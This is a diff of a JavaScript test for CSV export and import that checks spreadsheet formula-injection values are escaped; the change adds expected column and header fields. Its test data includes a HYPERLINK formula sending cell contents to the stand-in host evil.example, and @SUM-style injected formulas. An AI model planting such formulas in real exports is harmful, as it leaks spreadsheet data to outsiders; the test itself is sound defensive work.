@@ -70,6 +70,12 @@ describe('export → import', () => {
     expect(text).toContain(`90001,oE2XCwInject90001,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",true`);
     expect(text).toContain(`'@SUM(1),'-E2XCwInject90003,'@SUM(A1:A9),false`);
     expect(text).toContain(`90005,oE2XCwInject90005,''=already quoted,true`);
-    expect(roundTrip(hostile, 'utf-8')).toEqual({ inputs: hostile, errors: [], errorCount: 0 });
+    expect(roundTrip(hostile, 'utf-8')).toEqual({
+      inputs: hostile,
+      errors: [],
+      errorCount: 0,
+      columns: { employee_no: 'employee_no', openid: 'openid', name: 'name', active: 'active' },
+      headers: ['employee_no', 'openid', 'name', 'active'],
+    });
   });
 });
